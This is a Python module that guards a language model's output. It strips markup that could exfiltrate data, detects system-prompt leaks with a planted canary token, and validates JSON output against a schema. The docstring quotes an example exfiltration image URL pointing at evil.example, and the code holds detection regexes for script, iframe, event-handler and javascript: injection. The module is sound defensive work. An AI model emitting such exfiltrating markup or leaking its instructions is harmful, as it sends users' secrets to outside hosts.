"""Checks on model output: exfiltrating markup, system-prompt leakage, JSON schema.

* **Markup** (:func:`find_markup`, :func:`strip_markup`): what a chat UI would render into
  a request that carries data out — markdown or HTML images whose URL has a query string or
  fragment (``![x](https://evil.example/p.png?q=<secret>)``), ``<script>``, ``<iframe>``,
  ``<object>``/``<embed>``/``<frame>``, ``<meta http-equiv=refresh>``, inline event handlers
  (``onerror=``), ``javascript:`` URLs and ``data:`` URIs carrying a payload. Stripped by the
  ``markup`` scanner (or blocked, ``[plugin.guard] markup = "block"``).
* **Canary** (:func:`new_canary`, :func:`plant_canary`, :func:`canary_leaked`): a random
  token planted in the system prompt; if it comes back in the output — plain, spaced out,
  re-cased, or inside base64/hex/URL-encoding — the system prompt leaked.
* **JSON schema** (:func:`check_json`): the output parsed as JSON (a fenced block is
  unwrapped) and validated with ``jsonschema_rs`` (or ``jsonschema``); findings name the
  path and the rule, never the value.
* :func:`check_output` runs them together; :class:`OutputStream` releases a streamed
  completion piece by piece, holding back a tail so nothing is released before it is checked.
"""

from __future__ import annotations

import functools
import json
import re
import secrets
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import urlsplit

from opsloop.errors import OpsloopError
from opsloop.guard.rules import Match
from opsloop.interfaces import Finding

CANARY_PREFIX = "ocnry"
_ATTR_URL = r"""(?:"[^"]*"|'[^']*'|[^\s>]+)"""
# (finding type, rule, pattern); an unterminated element runs to the end of the text, so a
# stream never releases half of one.
MARKUP_RULES: tuple[tuple[str, str, re.Pattern[str]], ...] = tuple(
    (t, r, re.compile(p, re.IGNORECASE | re.DOTALL))
    for t, r, p in (
        ("markup.script", "script_tag", r"<script\b.*?(?:</script\s*>|\Z)"),
        (
            "markup.frame",
            "frame_tag",
            r"<(iframe|frame|object|embed|applet)\b.*?(?:</\1\s*>|/?>|\Z)",
        ),
        ("markup.refresh", "meta_refresh", r"<meta\b[^>]*http-equiv[^>]*(?:>|\Z)"),
        ("markup.image", "html_image", r"<img\b[^>]*(?:>|\Z)"),
        ("markup.image", "markdown_image", r"!\[[^\]\n]*\]\(\s*<?[^)\s>]*>?(?:\s+\"[^\"]*\")?\)"),
        ("markup.image", "markdown_image_ref", r"!\[[^\]\n]*\]\[[^\]\n]*\]"),
        ("markup.link_ref", "link_definition", r"^[ \t]{0,3}\[[^\]\n]+\]:[ \t]*\S+.*$"),
        ("markup.event_handler", "event_handler", r"<[a-z][^>]*\son[a-z]+\s*=[^>]*(?:>|\Z)"),
        ("markup.javascript_url", "javascript_url", r"\bjavascript\s*:[^\s)\"'>]+"),
        ("markup.data_uri", "data_uri", r"\bdata:[a-z0-9.+-]+/[a-z0-9.+-]+[^,\s]*,[^\s)\"'>]{16,}"),
    )
)
_URL_IN = re.compile(r"(?:https?:)?//[^\s)\"'>]+|\bsrc\s*=\s*" + _ATTR_URL, re.IGNORECASE)


def _exfil_url(url: str, allow_hosts: Sequence[str]) -> bool:
    """Whether loading ``url`` would carry data out: a query or fragment, or a long token in
    the path, to a host not allowed."""
    url = url.strip("\"'<> ")
    if url.lower().startswith("src"):
        url = url.split("=", 1)[1].strip().strip("\"'")
    if url.lower().startswith("data:"):
        return "," in url and len(url.split(",", 1)[1]) >= 16
    parts = urlsplit(url if "//" in url else "//" + url)
    host = (parts.hostname or "").lower()
    if host and any(host == h or host.endswith("." + h) for h in allow_hosts):
        return False
    if parts.query or parts.fragment:
        return True
    return any(len(seg) >= 32 for seg in parts.path.split("/"))


def find_markup(text: str, allow_hosts: Sequence[str] = ()) -> list[Match]:
    """Markup in ``text`` that would exfiltrate data or run code when rendered."""
    if not any(c in text for c in "<![:"):
        return []
    found: list[tuple[int, Match]] = []
    for priority, (kind, rule, pattern) in enumerate(MARKUP_RULES):
        for m in pattern.finditer(text):
            chunk = m.group()
            if kind in ("markup.image", "markup.link_ref"):
                urls = [u.group() for u in _URL_IN.finditer(chunk)]
                if kind == "markup.image" and rule == "markdown_image":
                    inner = chunk[chunk.index("](") + 2 : -1].strip().split(" ")[0]
                    urls = [inner.strip("<>")]
                if rule == "markdown_image_ref":
                    if not _ref_image_exfil(text, chunk, allow_hosts):
                        continue
                elif not any(_exfil_url(u, allow_hosts) for u in urls):
                    continue
            found.append((priority, Match(kind, m.start(), m.end(), rule)))
    found.sort(key=lambda pm: (pm[1].start, pm[0], -(pm[1].end - pm[1].start)))
    kept: list[Match] = []
    end = -1
    for _, hit in found:
        if hit.start >= end:
            kept.append(hit)
            end = hit.end
    return kept


def _ref_image_exfil(text: str, chunk: str, allow_hosts: Sequence[str]) -> bool:
    label = chunk.rsplit("[", 1)[1].rstrip("]") or chunk[2 : chunk.index("]")]
    ref = re.search(
        r"^[ \t]{0,3}\[" + re.escape(label) + r"\]:[ \t]*(\S+)", text, re.IGNORECASE | re.M
    )
    return ref is not None and _exfil_url(ref.group(1), allow_hosts)


def strip_markup(text: str, matches: Sequence[Match]) -> str:
    """``text`` with each match removed (an image leaves ``[image removed]``)."""
    out = text
    for m in sorted(matches, key=lambda m: m.start, reverse=True):
        keep = "[image removed]" if m.type == "markup.image" else ""
        out = out[: m.start] + keep + out[m.end :]
    return out


# ---------------------------------------------------------------------------- canary
def new_canary() -> str:
    """A fresh random canary token (plant one per system prompt, or per request)."""
    return f"{CANARY_PREFIX}{secrets.token_hex(8)}"


def plant_canary(system_prompt: str, canary: str) -> str:
    """``system_prompt`` with the canary planted in it, as a line the model has no reason
    to repeat unless it repeats its instructions."""
    return f"{system_prompt.rstrip()}\n\n[internal reference {canary}: confidential]"


def canary_leaked(text: str, canary: str) -> bool:
    """Whether ``text`` carries ``canary``: verbatim, re-spaced or re-cased, or inside an
    encoded payload (base64, hex, URL, ROT13)."""
    if not canary:
        return False
    if canary in text:
        return True
    core = canary.lower()
    squashed = re.sub(r"[^0-9a-z]", "", text.lower())
    if core in squashed or core.encode().hex() in squashed:
        return True
    from opsloop.guard.decode import decoded_layers
    from opsloop.guard.normalize import normalize

    norm = normalize(text).text
    if core in re.sub(r"[^0-9a-z]", "", norm.lower()):
        return True
    return any(
        core in re.sub(r"[^0-9a-z]", "", layer.text.lower()) for layer in decoded_layers(norm)
    )


# ---------------------------------------------------------------------------- JSON schema
_FENCE = re.compile(r"^\s*```(?:json)?\s*\n(.*?)\n?```\s*$", re.DOTALL | re.IGNORECASE)


def check_json(text: str, schema: Mapping[str, Any]) -> list[Finding]:
    """Findings (type ``output.schema``) when ``text`` is not JSON valid against ``schema``.

    Details name the JSON path and the failing keyword, never the value (it may be PII).
    Validates with ``jsonschema_rs`` when it is installed, else ``jsonschema`` (whose 4.2x
    releases import rfc3987-syntax, which builds a grammar at import: seconds, once).
    """
    fenced = _FENCE.match(text)
    try:
        value = json.loads(fenced.group(1) if fenced else text)
    except ValueError as exc:
        detail = f"not JSON: {getattr(exc, 'msg', 'cannot parse')}"
        return [Finding("schema", "output.schema", -1, -1, 1.0, detail)]
    errors = _compiled(json.dumps(schema, sort_keys=True))(value)
    return [
        Finding("schema", "output.schema", -1, -1, 1.0, f"{_path(path)}: fails '{keyword}'")
        for path, keyword in sorted(errors, key=lambda e: [str(p) for p in e[0]])
    ]


def _path(parts: Sequence[Any]) -> str:
    return "$" + "".join(f"[{p}]" if isinstance(p, int) else f".{p}" for p in parts)


Errors = list[tuple[list[Any], str]]


@functools.lru_cache(maxsize=64)
def _compiled(schema_json: str) -> Callable[[Any], Errors]:
    """A validator of the schema: value -> [(path, failing keyword)]."""
    schema = json.loads(schema_json)
    try:
        import jsonschema_rs
    except ImportError:
        jsonschema_rs = None  # type: ignore[assignment]
    if jsonschema_rs is not None:
        try:
            fast = jsonschema_rs.validator_for(schema)
        except (jsonschema_rs.ValidationError, ValueError) as exc:
            first = str(exc).splitlines()[0] if str(exc) else type(exc).__name__
            raise OpsloopError(f"the JSON schema is not valid: {first}") from None

        def check_fast(value: Any) -> Errors:
            return [
                (list(e.instance_path), str(e.schema_path[-1]) if e.schema_path else "?")
                for e in fast.iter_errors(value)
            ]

        return check_fast
    try:
        import jsonschema
    except ImportError:
        raise OpsloopError(
            "JSON-schema validation needs jsonschema-rs or jsonschema: pip install jsonschema-rs"
        ) from None
    cls = jsonschema.validators.validator_for(schema)
    try:
        cls.check_schema(schema)
    except jsonschema.SchemaError as exc:
        raise OpsloopError(f"the JSON schema is not valid: {exc.message}") from None
    slow = cls(schema)

    def check_slow(value: Any) -> Errors:
        return [(list(e.path), str(e.validator)) for e in slow.iter_errors(value)]

    return check_slow


# ---------------------------------------------------------------------------- together
@dataclass
class OutputCheck:
    """What the output checks found: ``verdict`` allow, redact or block; ``text`` after
    redaction (and markup stripping)."""

    verdict: str
    text: str
    findings: list[Finding] = field(default_factory=list)

    @property
    def blocked(self) -> bool:
        return self.verdict == "block"


def check_output(
    text: str,
    *,
    canary: str | None = None,
    schema: Mapping[str, Any] | None = None,
    scan: Callable[[str], Any] | None = None,
) -> OutputCheck:
    """The canary check, then ``scan`` (the project's output scanners: secrets, PII,
    markup; any callable returning a GuardResult), then the schema on the redacted text."""
    findings: list[Finding] = []
    verdict = "allow"
    if canary and canary_leaked(text, canary):
        findings.append(Finding("canary", "output.system_prompt_leak", -1, -1, 1.0, "canary"))
        verdict = "block"
    out = text
    if scan is not None:
        result = scan(text)
        findings.extend(result.findings)
        out = result.text
        if result.verdict == "block":
            verdict = "block"
        elif result.verdict == "redact" and verdict != "block":
            verdict = "redact"
    if schema is not None:
        bad = check_json(out, schema)
        if bad:
            findings.extend(bad)
            verdict = "block"
    return OutputCheck(verdict, out, findings)


class OutputStream:
    """Release a streamed completion in checked pieces.

    ``feed(delta)`` returns the text that may go to the caller now: once ``step`` more
    characters than ``holdback`` are pending, everything up to a whitespace at least
    ``holdback`` characters before the end, outside any finding that ``spans`` reports,
    passed through ``release`` (which redacts, and may raise to block); ``finish()`` returns
    the rest. A finding shorter than ``holdback`` is therefore always seen whole before any
    of it is released, and the scanners run once per ``step`` characters, not per delta.
    """

    def __init__(
        self,
        release: Callable[[str], str],
        spans: Callable[[str], Sequence[tuple[int, int]]],
        *,
        holdback: int = 256,
        step: int = 128,
        canary: str | None = None,
    ) -> None:
        self.release = release
        self.spans = spans
        self.holdback = holdback
        self.step = step
        self.canary = canary
        self.text = ""  # the whole completion so far, as the upstream sent it
        self.released = 0  # how much of ``text`` has been released
        self.leaked = False

    def feed(self, delta: str) -> str:
        self.text += delta
        pending = self.text[self.released :]
        if self.canary and self.canary in pending:  # the cheap check, on every delta
            self.leaked = True
            return ""
        limit = len(pending) - self.holdback
        if limit < self.step:
            return ""
        if self.canary and canary_leaked(pending, self.canary):  # re-spaced, encoded...
            self.leaked = True
            return ""
        covered = self.spans(pending)
        cut = -1
        for i in range(limit, 0, -1):
            if pending[i - 1].isspace() and not any(a < i < b for a, b in covered):
                cut = i
                break
        if cut <= 0:
            return ""
        self.released += cut
        return self.release(pending[:cut])

    def finish(self) -> str:
        """The rest of the completion, checked; call once, after the last delta."""
        if self.canary and canary_leaked(self.text, self.canary):
            self.leaked = True
            return ""
        rest = self.text[self.released :]
        self.released = len(self.text)
        return self.release(rest) if rest else ""
